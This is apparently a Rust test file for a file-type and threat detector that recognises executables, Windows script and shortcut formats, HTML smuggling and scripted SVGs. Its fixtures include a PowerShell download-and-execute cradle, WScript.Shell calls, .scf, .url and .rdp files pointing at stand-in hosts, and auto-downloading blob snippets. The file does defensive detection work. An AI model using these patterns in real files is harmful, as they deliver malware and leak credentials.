use super::*;

fn kind(octets: impl AsRef<[u8]>) -> &'static str {
    detect(octets.as_ref(), false).0.name()
}

#[test]
fn programs_are_told_from_words() {
    let mut pe = b"MZ".to_vec();
    pe.resize(0x3c, 0);
    pe.extend_from_slice(b"\x40\0\0\0PE\0\0");
    assert_eq!(kind(&pe), "pe");
    assert_eq!(kind(b"MZ\x90\0\x03\0\0\0"), "dos-exe");
    assert_eq!(kind("MZ is the beginning of a word"), "plain");
    assert_eq!(kind(b"\x7fELF\x02\x01\x01"), "elf");
    assert_eq!(kind(b"\xca\xfe\xba\xbe\0\0\0\x34"), "java-class");
    assert_eq!(kind(b"\xca\xfe\xba\xbe\0\0\0\x02"), "mach-o");
    assert_eq!(kind(b"\xcf\xfa\xed\xfe\x07"), "mach-o");
    assert_eq!(kind(b"dex\n035\0"), "dex");
}

#[test]
fn scripts_are_told_by_what_they_name() {
    let cases = [
        ("var sh = new ActiveXObject('WScript.Shell'); sh.Run('calc');", "javascript"),
        ("Dim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc\"\r\n", "vbscript"),
        ("$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x'))", "powershell"),
        ("@ECHO OFF\r\nstart calc.exe\r\n", "batch"),
        ("#@~^RQAAAA==-mD~", "encoded-script"),
        ("<html><head><HTA:APPLICATION id=x></head></html>", "hta"),
        ("<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script>", "hta"),
        ("<?xml version=\"1.0\"?><job><script language=\"JScript\">x()</script></job>", "wsf"),
        ("Windows Registry Editor Version 5.00\r\n", "registry"),
        ("#!/bin/sh\necho\n", "shebang"),
        ("[InternetShortcut]\r\nURL=file://evil.example/x\r\n", "url"),
        ("[Shell]\r\nCommand=2\r\nIconFile=\\\\evil\\x\r\n", "scf"),
        ("<?xml version=\"1.0\"?><libraryDescription xmlns=\"x\">", "library-ms"),
        ("screen mode id:i:2\r\nfull address:s:evil.example\r\n", "rdp"),
    ];
    for (text, expected) in cases {
        assert_eq!(kind(text), expected, "{text}");
        let utf16: Vec<u8> = [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect();
        assert_eq!(kind(utf16), expected, "{text} in UTF-16");
    }
}

#[test]
fn prose_about_scripts_is_prose() {
    let cases = [
        "You can use CreateObject(\"x\") there, as I said.",
        "Do not run anything that says powershell.",
        "function f() { return 1; }\nvar x = f();\n",
        "diff --git a/x b/x\n+var x = require('y');\n",
        "Set the table, dim the light.",
    ];
    for text in cases {
        assert_eq!(kind(text), "plain", "{text}");
    }
    let script = "var sh = new ActiveXObject('WScript.Shell'); sh.Run('calc');";
    assert_eq!(detect(script.as_bytes(), true).0.name(), "plain", "a body is read, not run");
}

#[test]
fn pages_that_make_files_are_told() {
    let smuggling = |text: &str| detect(text.as_bytes(), true).1.has(Flag::HtmlSmuggling);
    assert!(smuggling(
        "<html><script>var b=atob('UEsDBBQ');var u=URL.createObjectURL(new Blob([b]));a.href=u;a.download='x.zip';a.click()</script>"
    ));
    assert!(smuggling("<script>navigator.msSaveOrOpenBlob(new Blob([new Uint8Array(x)]),'x.iso')</script>"));
    assert!(smuggling("<html><a href=\"data:application/zip;base64,UEsD\" download=\"x.zip\">open</a></html>"));
    assert!(!smuggling("<html><img src=\"data:image/png;base64,iVBORw0KGgo\"><a href=\"https://example.org/download\">get it</a></html>"));
    assert!(!smuggling("<html><script>var x = atob('aGVsbG8=');</script></html>"));
    assert!(!smuggling("To save it, call createObjectURL, then a.click(), and atob( before."));
}

#[test]
fn pictures_with_scripts_are_told() {
    assert_eq!(detect(b"<svg xmlns='x'><script>alert(1)</script></svg>", false), (Kind::Svg, Flag::SvgScript.into()));
    assert_eq!(detect(b"<?xml version='1.0'?><!-- made --><svg><path/></svg>", false), (Kind::Svg, Flags::default()));
}

#[test]
fn comments_and_blanks_come_before_much() {
    assert_eq!(kind("\r\n\r\n <!-- saved --> <HTML>"), "html");
    assert_eq!(kind("junk \n%PDF-1.4\n"), "pdf");
    assert_eq!(kind(""), "empty");
    assert_eq!(kind([0, 1, 2, 3, 4, 5, 6, 7]), "unknown");
}
